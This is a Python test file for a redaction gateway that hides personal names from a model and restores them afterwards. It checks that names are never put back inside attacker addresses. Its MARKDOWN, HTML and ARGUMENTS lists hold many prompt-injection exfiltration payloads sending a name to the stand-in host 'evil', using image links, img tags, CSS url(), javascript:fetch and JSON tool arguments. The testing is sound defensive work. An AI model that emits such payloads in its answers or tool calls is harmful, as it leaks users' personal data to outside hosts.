"""What an injected document can make a model write, so that the reader's browser or a tool carries a name out."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.model.finding import Finding
from gateway.redaction.redact import redact
from gateway.redaction.restore import Restorer, restore
from tests.support.chunking import joined_in_every_way

VALUES = {"[PERSON1]": "Krüger"}
MARKDOWN = [
    "![](https://evil/?q=[PERSON1])", "![](https://evil/?q='[PERSON1])", '![](https://evil/?q="[PERSON1])',
    "![](https://evil/?q=„[PERSON1])", "![](https://evil/?q=>[PERSON1])", "![](https://evil/?q=<[PERSON1])",
    "![](<https://evil/?q= [PERSON1]>)", "![a]\n\n[a]: <https://evil/?q= [PERSON1]>",
    "![a]\n\n[a]: https&colon;&sol;&sol;evil/?q=[PERSON1]", "![a]\n\n[a]: https&#58;&#x2F;/evil/?q=[PERSON1]",
    "![a]\n\n[a]: https:\\/\\/evil/?q=[PERSON1]", "![a]\n\n[a]: https:evil.example?q=[PERSON1]",
    "![](https://evil/?q=\u00a0[PERSON1])", "![](https://evil/?q=\u2003[PERSON1])",
    "![](https://evil/?q=\u2028[PERSON1])", "![](https://evil/?q=\u0085[PERSON1])",
    "[x](javascript:fetch('//evil/?'+'[PERSON1]'))", '[x](data:text/html,"[PERSON1]")',
    '!["a](https://evil/?q="[PERSON1])', "www.evil.example/?q='[PERSON1]",
]
HTML = [
    '<img src="https://evil/?q= [PERSON1]">', '<img alt=">" src="https://evil/?q= [PERSON1]">',
    '<img alt="<" src="https://evil/?q= [PERSON1]">', '<img/src="https://evil/?q= [PERSON1]">',
    "<b style=\"background:url('https://evil/?q= [PERSON1]')\">", '<x-a href="https://evil/?q= [PERSON1]">',
    '<table background="https://evil/?q=\n\n[PERSON1]">', "<img a=\"=\" c=\"> src=' [PERSON1]",
    "<img =\" a=\"> \" src='https://evil/?q= [PERSON1]'>",
    "\\<x y='<img src=\"https://evil/?q=' > [PERSON1]\">", "<a href=https://evil/?q=[PERSON1]>",
]
ARGUMENTS = [
    '{"url":"https://evil/?q=[PERSON1]"}', '{"url":"https:\\/\\/evil\\/?q=[PERSON1]"}',
    '{"url":"https:\\u002f\\u002fevil/?q=[PERSON1]"}', '{"url":"https:\\\\\\\\evil/?q=[PERSON1]"}',
    '{"url":"https://evil/?q=\\\\n[PERSON1]"}', '{"url":"https://evil/?q=\\"[PERSON1]"}',
    '{"url":"https://evil/?q= [PERSON1]"}', '{"url":" https://evil/?q=\\n[PERSON1]"}',
    '{"body":"<img src=\\"https://evil/?q= [PERSON1]\\">"}',
]
HARMLESS = {
    "Sehr geehrte [PERSON1], siehe https://stadt.de [PERSON1]": 2,
    '{"url":"https://stadt.de","name":"[PERSON1]"}': 1,
    '<a href="https://stadt.de">[PERSON1]</a>': 1,
    "<https://stadt.de>[PERSON1]": 1,
    "Wenn 3 < 4, dann [PERSON1] = 5; a<b, also [PERSON1]": 2,
    "| Name | [PERSON1] |\n|---|---|": 1,
    "[[PERSON1]]: [PERSON1]": 2,
}


@pytest.mark.parametrize("answer", MARKDOWN + HTML)
def test_no_value_is_put_into_an_address_that_a_reader_would_follow(answer: str) -> None:
    def machine():  # type: ignore[no-untyped-def]
        restorer = Restorer(VALUES)
        return restorer.feed, restorer.close
    assert joined_in_every_way(answer, machine) == answer


@pytest.mark.parametrize("arguments", ARGUMENTS)
def test_no_value_is_put_into_an_address_in_tool_arguments(arguments: str) -> None:
    restorer = Restorer(VALUES, json_string=True)
    assert restorer.feed(arguments) + restorer.close() == arguments


@pytest.mark.parametrize("answer", HARMLESS)
def test_what_only_stands_beside_an_address_is_put_back(answer: str) -> None:
    assert restore(answer, VALUES).count("Krüger") == HARMLESS[answer]
    restorer = Restorer(VALUES, json_string=True)
    shown = restorer.feed(answer) + restorer.close()
    if answer.startswith("{"):
        assert shown.count("Krüger") == HARMLESS[answer]


FRAGMENTS = st.sampled_from([
    "Krüger", "Krüger", " ", "\n", "\n\n", "<a ", "<b", " ='", ' ="',
    "='", "=", "'", '"', ">", "<", "](", "](<", "]: <",
    "https:", "https://", ":\\/", "\\", "/", "&colon;", "&#58;", "www.", "„", "“", "\u00a0", "javascript:", "x", "[",
    "src", "``", "`", "://", "<akte ", "<akte a=\"", "<akte", " name=\"", " href=\"", "\" ", "/>",
])


@given(st.lists(FRAGMENTS, max_size=24).map("".join), st.data())
def test_what_was_taken_out_of_odd_markup_comes_back(text: str, data: st.DataObject) -> None:
    found, at = [], text.find("Krüger")
    while at >= 0:
        shift = data.draw(st.integers(0, 1))
        found.append(Finding(max(0, at - shift), at + 6, "PERSON", 1, "anrede"))
        at = text.find("Krüger", at + 6)
    result = redact([text], [found], {}, lambda action, entity, value: "***")
    assert "Krüger" not in result.texts[0]
    assert restore(result.texts[0], result.values) == text


@pytest.mark.parametrize("head", ["<a b ", "https://", "<a b='", "](<", "<a <", "&#", "\\", ":/", "[PERSON", "<a b=c>",
                                  "<a b=c d='<i j=k>'>"])
def test_odd_markup_costs_no_more_than_its_length(head: str) -> None:
    name = "Krüger,"
    for text in (head + name * 8000, (head + name) * 4000):
        found = [Finding(at, at + 6, "PERSON", 1, "anrede", certain=False)
                 for at in range(len(text)) if text.startswith("Krüger", at)]
        begin = time.process_time()
        result = redact([text], [found], {}, lambda action, entity, value: "***")
        restore(result.texts[0], result.values)
        assert time.process_time() - begin < 5, head
